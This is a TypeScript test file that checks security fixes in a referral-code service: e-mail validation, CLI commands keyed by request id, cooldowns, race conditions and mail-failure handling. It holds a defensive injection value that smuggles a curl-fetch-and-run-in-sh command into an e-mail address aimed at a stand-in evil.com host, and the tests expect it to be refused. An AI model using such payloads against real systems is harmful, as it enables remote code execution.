/**
 * Security review items on referral codes: the strict e-mail grammar, volunteers' mails
 * and CLI working by request id, per-e-mail cooldowns, personal-code races, passwords with outer
 * spaces, and mail failures that must not lose or duplicate a stored item.
 */
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient, GetCommand, ScanCommand } from '@aws-sdk/lib-dynamodb';
import { describe, expect, it } from 'vitest';
import { texts } from '#shared/texts.js';
import { call, mailsTo, newMember, signIn, signUp, signupBody, uniqueEmail } from './helpers.js';
import { DEAD_SES, runService } from './scripts/child.js';

const run = promisify(execFile);
const admin = (...args: string[]) =>
  run('npx', ['tsx', 'infra/local/adminCli.ts', ...args], { env: { ...process.env, DATA_DIR: process.env.LOCAL_DATA_DIR }, timeout: 60_000 });
const db = () => DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'us-east-1', endpoint: process.env.DYNAMODB_ENDPOINT }));
const EVIL = '$({curl,-s,x.example/y}|sh)@evil.com';
const volunteerMails = () => mailsTo(process.env.VOLUNTEER_EMAIL ?? '');
const requestBody = (requesterEmailId: string) => ({
  requesterFirstName: 'Ravi', requesterLastName: 'Kumar', requesterEmailId, requesterPhoneCountryCode: '', requesterPhoneNumber: '6475550123',
});

async function itemsWhere(attribute: string, value: string) {
  const items: Record<string, unknown>[] = [];
  let start: Record<string, unknown> | undefined;
  do {
    const page = await db().send(new ScanCommand({
      TableName: process.env.TABLE_NAME, ExclusiveStartKey: start,
      FilterExpression: '#a = :v', ExpressionAttributeNames: { '#a': attribute }, ExpressionAttributeValues: { ':v': value },
    }));
    items.push(...(page.Items ?? []));
    start = page.LastEvaluatedKey;
  } while (start);
  return items;
}
const getItem = async (pk: string, sk: string) =>
  (await db().send(new GetCommand({ TableName: process.env.TABLE_NAME, Key: { pk, sk }, ConsistentRead: true }))).Item;
/** The lines of a mail that tell a volunteer what to run. */
const commandLines = (text: string) => text.split('\n').filter((l) => l.includes('npm run admin'));

describe('no shell in the volunteers\' way (item 1)', () => {
  it('a referral request with a shell-laden address is refused with the spec text and stores and mails nothing', async () => {
    const before = (await volunteerMails()).length;
    const res = await call('requestReferralCode', { body: requestBody(EVIL) });
    expect(res.status).toBe(422);
    expect(res.body.errors.requesterEmailId).toEqual([texts.emailInvalid]);
    expect(await itemsWhere('requesterEmailId', EVIL)).toHaveLength(0);
    expect(await volunteerMails()).toHaveLength(before);
  });

  it('the volunteers\' mail names the request by id; its command line carries no e-mail', async () => {
    const requester = uniqueEmail('byid');
    const res = await call('requestReferralCode', { body: requestBody(requester) });
    expect(res.status).toBe(200);
    const mail = (await volunteerMails()).find((m) => m.text.includes(res.body.id));
    expect(mail).toBeDefined();
    const lines = commandLines(mail!.text);
    expect(lines).toHaveLength(1);
    expect(lines[0]!.trim()).toBe(`npm run admin -- referral --request ${res.body.id}`);
    expect(lines[0]).not.toContain('@');
  });

  it('referral --request <id> issues a code to the stored address, mails it, marks the request; twice issues no second code', async () => {
    const requester = uniqueEmail('cli-request');
    const { body } = await call('requestReferralCode', { body: requestBody(requester) });
    const first = await admin('referral', '--request', body.id);
    const code = first.stdout.trim().split('\n').at(-1) ?? '';
    expect(code).toMatch(/^[A-Z2-9]{8}$/);
    expect((await call('validateReferCode', { params: { referralCode: code } })).status).toBe(200);
    expect((await mailsTo(requester)).filter((m) => m.text.includes(code))).toHaveLength(1);
    const request = await getItem(`REFREQ#${body.id}`, 'REFREQ');
    expect(request?.answeredAt).toEqual(expect.any(String));

    const second = await admin('referral', '--request', body.id);
    expect(second.stdout).toMatch(/already answered/i);
    expect(second.stdout.trim().split('\n').at(-1)).toBe(code);
    expect(await itemsWhere('issuedToEmail', requester)).toHaveLength(1);
    expect(await mailsTo(requester)).toHaveLength(1);
  });

  it('referral --request refuses an unknown id without issuing anything', async () => {
    await expect(admin('referral', '--request', 'no-such-request-id')).rejects.toMatchObject({ code: 1 });
  });

  it('the admin route and the CLI refuse a shell-laden address (strict grammar there too)', async () => {
    const m = await newMember();
    const { AdminAddUserToGroupCommand, CognitoIdentityProviderClient } = await import('@aws-sdk/client-cognito-identity-provider');
    await new CognitoIdentityProviderClient({ region: 'us-east-1', endpoint: process.env.COGNITO_ENDPOINT }).send(
      new AdminAddUserToGroupCommand({ UserPoolId: process.env.USER_POOL_ID, Username: m.email, GroupName: 'volunteers' }),
    );
    const { accessToken } = await signIn(m.email, m.password);
    const res = await call('issueReferralCode', { token: accessToken, body: { email: EVIL } });
    expect(res.status).toBe(422);
    expect(res.body.errors.email).toEqual([texts.emailInvalid]);
    expect(await itemsWhere('issuedToEmail', EVIL)).toHaveLength(0);
    await expect(admin('referral', 'a|b@evil.com')).rejects.toMatchObject({ code: 1 });
  });
});

describe('per-e-mail cooldowns (item 6)', () => {
  it('10 parallel referral requests for one address: one stored, one mail, the rest 429 with a message', async () => {
    const requester = uniqueEmail('cooldown');
    const answers = await Promise.all(Array.from({ length: 10 }, () => call('requestReferralCode', { body: requestBody(requester.toUpperCase()) })));
    expect(answers.filter((a) => a.status === 200)).toHaveLength(1);
    const refused = answers.filter((a) => a.status !== 200);
    expect(refused.every((a) => a.status === 429 && a.body.message === texts.referralRequestCooldown)).toBe(true);
    expect(await itemsWhere('requesterEmailId', requester)).toHaveLength(1);
    expect((await volunteerMails()).filter((m) => m.text.includes(requester))).toHaveLength(1);
  });

  it('10 parallel password resets for one account: the same answer to each, one mail', async () => {
    const m = await newMember();
    const before = (await mailsTo(m.email)).length;
    const answers = await Promise.all(Array.from({ length: 10 }, () => call('resetUserPassword', { body: { userEmail: m.email } })));
    for (const a of answers) expect(a).toEqual({ status: 200, body: { message: texts.resetRequested } });
    expect(await mailsTo(m.email)).toHaveLength(before + 1);
    const unknown = await Promise.all(Array.from({ length: 3 }, () => call('resetUserPassword', { body: { userEmail: uniqueEmail('nobody') } })));
    for (const a of unknown) expect(a).toEqual({ status: 200, body: { message: texts.resetRequested } });
  });
});

describe('smaller ones (item 10)', () => {
  it('10 parallel reads of a used personal code all answer the same new code, and only one is made', async () => {
    const m = await newMember();
    const oldId = (await call('getSession', { token: m.token })).body.userReferralId as string;
    expect((await signUp(signupBody(oldId))).status).toBe(200);
    const answers = await Promise.all(Array.from({ length: 10 }, () => call('getUserReferralDetails', { token: m.token, params: { userReferralId: oldId } })));
    expect(answers.every((a) => a.status === 200)).toBe(true);
    expect(new Set(answers.map((a) => JSON.stringify(a.body))).size).toBe(1);
    expect(answers[0]!.body.id).not.toBe(oldId);
    expect(await itemsWhere('ownerUserId', m.id)).toHaveLength(2);
    expect((await call('getSession', { token: m.token })).body.userReferralId).toBe(answers[0]!.body.id);
  });

  it('passwords with a leading or trailing space are refused with a message, never a 500', async () => {
    const m = await newMember();
    const { freshReferral } = await import('./helpers.js');
    const referral = await freshReferral();
    const signup = await call('saveUserProfile', { body: signupBody(referral.id, uniqueEmail(), ' secret123') });
    expect(signup.status).toBe(422);
    expect(signup.body.errors.userPass).toEqual([texts.passwordSpaces]);
    const change = await call('changeUserPassword', { token: m.token, params: { userProfileId: m.id }, body: { currentPassword: m.password, userPass: 'newsecret1 ' } });
    expect(change.status).toBe(422);
    expect(change.body.errors.userPass).toEqual([texts.passwordSpaces]);
    const reset = await call('confirmResetUserPassword', { body: { userEmail: m.email, code: '123456', userPass: ' another1 ' } });
    expect(reset.status).toBe(422);
    expect(reset.body.errors.userPass).toEqual([texts.passwordSpaces]);
    expect((await getItem(`REFERRAL#${referral.id}`, 'REFERRAL'))?.usedAt).toBeUndefined();
  });

  it('a referral request whose mail fails is stored and answered; the next request for the address sends it once', async () => {
    const requester = uniqueEmail('deadmail');
    const child = await runService('requestReferralCode', requestBody(requester), { SES_ENDPOINT: DEAD_SES });
    expect(child.code, child.stderr).toBe(0);
    const id = child.result.id as string;
    expect((await getItem(`REFREQ#${id}`, 'REFREQ'))?.mailedAt).toBeUndefined();
    expect((await volunteerMails()).filter((m) => m.text.includes(id))).toHaveLength(0);

    const again = await call('requestReferralCode', { body: requestBody(requester) });
    expect(again.status).toBe(429);
    expect((await volunteerMails()).filter((m) => m.text.includes(id))).toHaveLength(1);
    expect((await getItem(`REFREQ#${id}`, 'REFREQ'))?.mailedAt).toEqual(expect.any(String));
    expect((await call('requestReferralCode', { body: requestBody(requester) })).status).toBe(429);
    expect((await volunteerMails()).filter((m) => m.text.includes(id))).toHaveLength(1);
    expect(await itemsWhere('requesterEmailId', requester)).toHaveLength(1);
  });

  it('a code whose mail fails is stored and answered; the volunteer\'s next run mails the same code once', async () => {
    const direct = uniqueEmail('deadmail-issue');
    const issued = await runService('issueReferralCode', direct, { SES_ENDPOINT: DEAD_SES });
    expect(issued.code, issued.stderr).toBe(0);
    expect(issued.result.referralCode).toMatch(/^[A-Z2-9]{8}$/);
    expect(await itemsWhere('issuedToEmail', direct)).toHaveLength(1);

    const requester = uniqueEmail('deadmail-request');
    const { body } = await call('requestReferralCode', { body: requestBody(requester) });
    const child = await runService('issueReferralForRequest', body.id, { SES_ENDPOINT: DEAD_SES });
    expect(child.code, child.stderr).toBe(0);
    const code = child.result.referral.referralCode as string;
    expect(child.result.mailed).toBe(false);
    expect(await mailsTo(requester)).toHaveLength(0);

    const retry = await admin('referral', '--request', body.id);
    expect(retry.stdout.trim().split('\n').at(-1)).toBe(code);
    expect((await mailsTo(requester)).filter((m) => m.text.includes(code))).toHaveLength(1);
    await admin('referral', '--request', body.id);
    expect(await mailsTo(requester)).toHaveLength(1);
    expect(await itemsWhere('issuedToEmail', requester)).toHaveLength(1);
  });
});
